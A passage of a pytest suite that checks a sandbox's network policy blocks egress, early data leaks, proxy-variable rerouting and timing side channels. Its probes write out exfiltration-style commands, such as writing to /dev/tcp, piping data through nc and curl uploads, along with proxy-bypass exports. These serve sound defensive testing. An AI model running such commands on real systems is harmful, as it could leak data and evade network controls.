                f"git -c http.sslVerify=false ls-remote {server.url}/x.git",
            ]
            for command in commands:
                result = guest.blocked(command)
                assert "never" not in result.stdout, what
            assert not server.requests


def test_81_many_names_cost_the_owner_nothing(open_guest: Open) -> None:
    guest = open_guest(Network.allow("*.good.test:9", hosts={"x.good.test": "127.0.0.1"}))
    guest.run("curl -s 'https://h[1-2000].evil.test/' -o /dev/null")
    denied = guest.run("curl -sS https://h1.evil.test/").stderr
    assert "denied by policy" in denied


def test_82_nothing_leaves_before_the_verdict(open_guest: Open) -> None:
    asked = threading.Event()
    decide = threading.Event()

    def slow(conn: Any) -> None:
        if dns := conn.match_dns():
            dns.accept()
            return
        asked.set()
        decide.wait(30)

    with Tripwire("127.0.0.2") as wire:
        guest = open_guest(Network.policy(slow, hosts=HOSTS))
        process = guest.sandbox.spawn(f"printf 'early data' > /dev/tcp/api.test/{wire.port}")
        assert asked.wait(30)
        time.sleep(0.2)
        assert not wire.touched(), "a connection was made while the policy was thinking"
        decide.set()
        assert process.wait(30) != 0
        assert not wire.touched()


def _names_only(conn: Any) -> None:
    if dns := conn.match_dns():
        dns.accept()


def test_82_a_flood_of_early_data_waits_for_the_verdict(open_guest: Open) -> None:
    """Bodies and lines that are written at once stay here when the answer is no."""
    with Tripwire("127.0.0.2") as wire:
        guest = open_guest(Network.policy(_names_only, hosts=HOSTS))
        guest.blocked(f"head -c 3000000 /dev/zero | curl -sS -T - http://api.test:{wire.port}/")
        guest.blocked(f"head -c 3000000 /dev/zero | nc -w 5 api.test {wire.port}")
        assert not wire.touched()


def _raises(conn: Any) -> None:
    raise RuntimeError(TOKEN[:3])


def _accepts_and_raises(conn: Any) -> None:
    conn.accept()
    raise RuntimeError("too late")


def _junk(conn: Any) -> Any:
    conn.accept()
    return {"allow": True}


async def _never(conn: Any) -> None:
    await asyncio.sleep(60)


@pytest.mark.parametrize("policy", [_raises, _accepts_and_raises, _junk, _never, lambda conn: "yes", lambda conn: True])
def test_83_a_policy_that_fails_is_a_no(open_guest: Open, policy: Any) -> None:
    with Tripwire() as wire:
        guest = open_guest(Network.policy(policy, limits=NetworkLimits(policy_seconds=0.5)))
        guest.blocked(f"curl -sS -m 20 http://127.0.0.1:{wire.port}/")
        guest.blocked(f"nc -z -w 20 127.0.0.1 {wire.port}")
        assert not wire.touched()


def test_84_the_environment_opens_no_other_way(open_guest: Open) -> None:
    with Tripwire() as wire, HttpServer({"/": "direct"}) as server:
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}"))
        proxy = f"http://127.0.0.1:{wire.port}"
        names = " ".join(
            f"{name}={proxy}" for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy")
        )
        assert guest.run(f"export {names}; curl -sS {server.url}/; wget -qO- {server.url}/").stdout == "directdirect"
        guest.blocked(f"export NO_PROXY='*' no_proxy='*' {names}; curl -sS -m 5 http://127.0.0.1:{wire.port}/")
        guest.blocked(f"unset http_proxy; curl -sS -m 5 {proxy}/")
        assert not wire.touched()


def test_85_what_can_be_told_by_timing_is_rate_limited(open_guest: Open) -> None:
    with HttpServer({"/": "x"}) as server:
        limits = NetworkLimits(requests_per_second=1)
        guest = open_guest(Network.allow(f"127.0.0.1:{server.port}", limits=limits))
        result = guest.run(f"curl -s '{server.url}/?[1-300]' -o /dev/null -w '%{{http_code}}\\n' | sort | uniq -c")
        assert "000" in result.stdout
        assert len(server.requests) < 200


def test_the_secret_was_there_to_be_found(open_guest: Open) -> None:
    """The search works: an unmasked echo is what it would find."""
    with two_sites() as (api, _):

        def policy(conn: Any) -> None:
            if dns := conn.match_dns():
                dns.accept()
            elif http := conn.match_http(f"api.test:{conn.dst.port}"):
                http.accept(lambda request: request.headers.set("x-note", TOKEN))

        with Sandbox(network=Network.policy(policy, hosts=HOSTS)) as sandbox:
            said = sandbox.exec(
                f"curl -sS http://api.test:{api.port}/; curl -sS http://api.test:{api.port}/ | base64 -w0"
            ).stdout
            assert TOKEN in said
            assert any(form.decode() in said for form in FORMS[3:6])
